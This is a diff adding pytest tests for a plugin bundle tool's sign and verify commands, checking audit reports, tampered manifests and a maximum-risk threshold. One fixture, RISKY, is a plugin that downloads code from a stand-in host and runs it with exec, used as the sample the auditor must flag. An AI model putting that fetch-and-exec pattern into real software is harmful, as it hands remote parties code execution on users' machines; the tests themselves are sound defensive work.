@@ -6,6 +6,7 @@ import os
 import pty
 import signal
 import stat
+import struct
 import subprocess
 import termios
 import time
@@ -15,8 +16,12 @@ from typing import Any
 
 import pytest
 import yaml
+from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
+from cryptography.hazmat.primitives.serialization import load_pem_private_key
 from fake_hub import FakeHub
 from run_command import Command
+
+from bundles import public_bytes
 
 OK, FAILED, USAGE, UNREACHABLE, UNAUTHORIZED, NOT_FOUND = range(6)
 
@@ -382,6 +387,71 @@ class TestSign:
         assert said.out.endswith(f"Signed by {key}, as number 1.\n")
         assert stat.S_IMODE(Path("idle.bundle").stat().st_mode) == 0o640
 
+    def test_what_the_auditor_says_is_signed(self, cli: Command) -> None:
+        keygen(cli)
+        pack(cli)
+        before = json.loads(cli("plugin", "inspect", "idle.bundle", "--json").out)
+        assert before["audit"] is None
+        said = cli("plugin", "sign", "idle.bundle", "--key", "team.key")
+        for title in ("risk         0.00", "malware      0.00", "obfuscated   0.00", "confidence   0."):
+            assert f"\n{title}" in said.out
+        assert "\nconclusion   " in said.out
+        after = json.loads(cli("plugin", "inspect", "idle.bundle", "--json").out)
+        report = after["report"]
+        assert after["audit"] == {"sha256": report["sha256"], "rules": report["rules"], "risk": 0}
+        assert after["sha256"] != before["sha256"]
+        assert after["sha256"] in said.out
+        assert after["files"] == before["files"]
+
+    def test_the_second_signer_finds_the_same(self, cli: Command, signed: str) -> None:
+        first = json.loads(cli("plugin", "inspect", "idle.bundle", "--json").out)
+        keygen(cli, "other.key")
+        said = cli("plugin", "sign", "idle.bundle", "--key", "other.key")
+        assert said.code == OK
+        assert "audit        its manifest names this very report\n" in said.out
+        assert json.loads(cli("plugin", "inspect", "idle.bundle", "--json").out)["sha256"] == first["sha256"]
+
+    def test_a_report_that_the_same_rules_contradict(self, cli: Command, signed: str) -> None:
+        keygen(cli, "other.key")
+        lie = rewrite(audit={"risk": 100})
+        said = cli("plugin", "sign", "idle.bundle", "--key", "other.key")
+        assert said.code == FAILED
+        assert "(audit_mismatch)" in said.err
+        assert "Signed" not in said.out
+        assert Path("idle.bundle").read_bytes() == lie
+
+    def test_a_report_by_other_rules(self, cli: Command, signed: str) -> None:
+        keygen(cli, "other.key")
+        rewrite(audit={"rules": 64 * "b", "risk": 30})
+        said = cli("plugin", "sign", "idle.bundle", "--key", "other.key")
+        assert said.code == OK
+        assert "its manifest names a report by other rules" in said.out
+        assert f"named: risk 0.30, rules {64 * 'b'}\n" in said.out
+        assert "here:  risk 0.00, rules " in said.out
+
+    def test_signed_before_there_was_an_audit(self, cli: Command, signed: str) -> None:
+        keygen(cli, "other.key")
+        rewrite(audit=None)
+        said = cli("plugin", "sign", "idle.bundle", "--key", "other.key")
+        assert said.code == OK
+        assert "its manifest names no report: it was not audited" in said.out
+        assert json.loads(cli("plugin", "inspect", "idle.bundle", "--json").out)["audit"] is None
+
+    def test_the_highest_risk_to_sign(self, cli: Command) -> None:
+        keygen(cli)
+        Path("src/idle.py").write_text(RISKY)
+        pack(cli)
+        before = Path("idle.bundle").read_bytes()
+        sign = ["plugin", "sign", "idle.bundle", "--key", "team.key"]
+        said = cli(*sign, "--max-risk", "0.7")
+        assert said.code == FAILED
+        assert "idle.bundle is not signed: its risk is 0." in said.err
+        assert "(too_risky)" in said.err
+        assert Path("idle.bundle").read_bytes() == before
+        for wrong in ("-1", "1.1", "high", ""):
+            assert cli(*sign, "--max-risk", wrong).code == USAGE
+        assert cli(*sign).code == OK
+
     def test_two_sign(self, cli: Command, signed: str) -> None:
         other = keygen(cli, "other.key")
         said = cli("plugin", "sign", "idle.bundle", "--key", "other.key")
@@ -478,6 +548,35 @@ class TestSign:
             assert said.out == ""
 
 
+RISKY = """import urllib3
+
+
+class IdleWatch:
+    def start(self, scheduler):
+        answer = urllib3.PoolManager().request("GET", "https://plugins.example/idle.py")
+        exec(answer.data)
+"""
+
+
+def rewrite(audit: dict[str, Any] | None) -> bytes:
+    """`idle.bundle` with other things in its manifest's audit, or without one, signed by `team.key` again."""
+    path = Path("idle.bundle")
+    content = path.read_bytes()
+    length, size = struct.unpack("<IQ", content[12:24])
+    manifest = json.loads(content[24 : 24 + length])
+    if audit is None:
+        del manifest["audit"]
+    else:
+        manifest["audit"].update(audit)
+    text = json.dumps(manifest).encode()
+    files = content[24 + length : 24 + length + size]
+    signed = content[:12] + struct.pack("<IQ", len(text), size) + text + files
+    key = load_pem_private_key(Path("team.key").read_bytes(), None)
+    assert isinstance(key, Ed25519PrivateKey)
+    path.write_bytes(signed + struct.pack("<I", 1) + public_bytes(key) + key.sign(signed))
+    return path.read_bytes()
+
+
 def verify(command: Command, *arguments: str, trust: str = "team.key.pub") -> Any:
     """The answer of `plugin verify --json`; what it says otherwise agrees."""
     words = ["plugin", "verify", "idle.bundle", "--trust", trust, *arguments]
@@ -515,6 +614,41 @@ class TestVerify:
         assert answer["name"] == "idle-watch"
         assert [file["path"] for file in answer["files"]] == ["idle.py", "parts/clock.py"]
         assert verify(cli, trust=signed)["accepted"]
+
+    def test_the_report_is_made_again(self, cli: Command, signed: str) -> None:
+        answer = verify(cli)
+        assert answer["report"]["agreement"] == "same"
+        assert answer["report"]["sha256"] == answer["audit"]["sha256"]
+        rewrite(audit={"rules": 64 * "b"})
+        assert verify(cli)["report"]["agreement"] == "other_rules"
+        said = cli("plugin", "verify", "idle.bundle", "--trust", "team.key.pub")
+        assert f"named: risk 0.00, rules {64 * 'b'}\n" in said.out
+        assert f"here:  risk 0.00, rules {answer['report']['rules']}\n" in said.out
+
+    @pytest.mark.parametrize("change", [{"sha256": 64 * "0"}, {"risk": 1}])
+    def test_another_report_by_the_same_rules(
+        self, cli: Command, signed: str, change: dict[str, Any]
+    ) -> None:
+        rewrite(audit=change)
+        assert verify(cli)["code"] == "audit_mismatch"
+
+    def test_not_audited(self, cli: Command, signed: str) -> None:
+        rewrite(audit=None)
+        answer = verify(cli)
+        assert answer["audit"] is None
+        assert answer["report"]["agreement"] == "unsaid"
+        said = cli("plugin", "verify", "idle.bundle", "--trust", "team.key.pub")
+        assert "its manifest names no report: it was not audited" in said.out
+
+    def test_the_highest_risk(self, cli: Command) -> None:
+        keygen(cli)
+        Path("src/idle.py").write_text(RISKY)
+        pack(cli)
+        assert cli("plugin", "sign", "idle.bundle", "--key", "team.key").code == OK
+        answer = verify(cli)
+        assert answer["report"]["risk"] > 0.7
+        assert verify(cli, "--max-risk", "0.7")["code"] == "too_risky"
+        assert verify(cli, "--max-risk", "1")["accepted"]
 
     def test_several_keys(self, cli: Command, signed: str) -> None:
         other = keygen(cli, "other.key")
